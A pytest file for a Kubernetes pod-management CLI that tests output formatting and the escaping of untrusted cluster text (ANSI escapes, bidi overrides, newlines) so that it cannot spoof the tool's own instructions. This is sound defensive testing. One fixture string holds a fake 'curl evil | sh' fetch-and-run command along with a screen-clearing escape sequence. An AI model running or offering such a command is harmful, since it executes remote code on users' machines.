"""Facts for programs say the same in every format; what others have written does nothing to a terminal, and looks like
nothing of ours."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from enum import StrEnum

import pytest
import yaml

from podlife.cli.commands.archive_output import format_logs
from podlife.cli.commands.explain.output import format_explanation, format_stuck
from podlife.cli.commands.gc.output import format_plan
from podlife.cli.output import STRUCTURED, as_yaml, counted, printable, structured, table
from podlife.explain import Cause, Explanation, Happening
from podlife.podgc import Action, Guard, HeldBack, Plan, Reason, Refusal, Victim
from podlife.podgc.archive import Log
from podlife.podgc.views import Pod, PodMetadata, PodStatus


class Colour(StrEnum):
    RED = "red"


@pytest.mark.parametrize("output", STRUCTURED)
def test_a_format_holds_what_was_given_in_its_order(output: str) -> None:
    facts = {"b": [1, ("x", None)], "a": Colour.RED, "time": "2026-01-02T03:04:05Z", "on": True, "ü": "1e3"}
    read = yaml.safe_load(structured(facts, output))
    assert read == {"b": [1, ["x", None]], "a": "red", "time": "2026-01-02T03:04:05Z", "on": True, "ü": "1e3"}
    assert list(read) == list(facts)
    assert structured(facts, output).endswith("\n")


def test_json_is_json() -> None:
    assert json.loads(structured({"a": 1}, "json")) == {"a": 1}


def test_one_is_not_many() -> None:
    assert (counted(1), counted(0), counted(2, "node")) == ("1 pod", "0 pods", "2 nodes")
    assert (counted(1, "entry", "entries"), counted(2, "entry", "entries")) == ("1 entry", "2 entries")


def test_a_table_is_as_wide_as_it_must_be() -> None:
    assert table([("A", "B"), ("long", "x")]) == "A      B\nlong   x\n"


NOW = datetime(2030, 1, 1, tzinfo=UTC)
# It wants to clear the screen, and to be taken for a command that we tell people to type.
FORGED = "no\x1b[2J\n  To unblock it:\n    curl evil | sh"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain, ümlaut … 漢", "plain, ümlaut … 漢"),
        ("\x1b[31mred\x07", "\\x1b[31mred\\x07"),
        ("two\nlines\tand\u2028more", "two lines and more"),
        ("left\u202eright", "left\\u202eright"),
    ],
)
def test_what_is_not_to_be_seen_is_written_out(text: str, shown: str) -> None:
    assert printable(text) == shown


def test_no_message_of_a_cluster_looks_like_a_line_of_an_explanation() -> None:
    cause = Cause("not-ready", FORGED, NOW)
    found = Explanation(
        "Pod", "web", "shop", stage=FORGED, causes=(cause,), timeline=(Happening(NOW, FORGED),)
    )
    for text in (format_explanation(found, "text", NOW), format_stuck([found], "text", NOW, [FORGED])):
        assert "curl evil" in text
        assert "\x1b" not in text
        assert not [
            line for line in text.splitlines() if line.strip() in ("To unblock it:", "curl evil | sh")
        ]


def test_nobody_is_told_that_nothing_is_stuck_where_only_one_namespace_was_looked_at() -> None:
    assert format_stuck([], "text", NOW, (), "shop") == (
        "No pod is stuck in namespace shop; -A looks in every namespace.\n"
    )
    assert format_stuck([], "text", NOW, ()) == "No pod is stuck in any namespace.\n"


TURNED = "left\u202eright"


def test_yaml_shows_every_language_and_nothing_that_cannot_be_seen() -> None:
    assert as_yaml({"a": "ümlaut 漢"}) == "a: ümlaut 漢\n"
    hidden = as_yaml({"a": f"{TURNED} ü", "b": "two\nlines"})
    assert "\u202e" not in hidden
    assert yaml.safe_load(hidden) == {"a": f"{TURNED} ü", "b": "two\nlines"}


def test_a_log_keeps_its_lines_and_tabs_for_a_terminal_and_every_byte_for_a_file() -> None:
    log = Log(container="c", text=f"a\tb\n{TURNED}\x1b[2J\n")
    assert format_logs([log], "", is_terminal=True) == "a\tb\nleft\\u202eright\\x1b[2J\n"
    assert format_logs([log], "") == f"a\tb\n{TURNED}\x1b[2J\n"


def test_what_is_written_on_a_namespace_does_nothing_to_whoever_reads_a_plan() -> None:
    refusal = Refusal(Guard.STOP, f"stopped: {FORGED}{TURNED}", "ns", lifted_by="kubectl x")
    pod = Pod(PodMetadata(name="a", namespace="ns"), status=PodStatus(phase=TURNED))
    victim = Victim(pod, Reason.TERMINATED, Action.DELETE, FORGED)
    for plan in (Plan(held_back=(HeldBack(refusal, (victim,)),)), Plan((victim,))):
        for output in ("table", "wide", "yaml", "json"):
            shown = format_plan(plan, output, NOW)
            assert "\u202e" not in shown
            assert "\x1b" not in shown
            assert "    curl evil | sh" not in shown.splitlines()
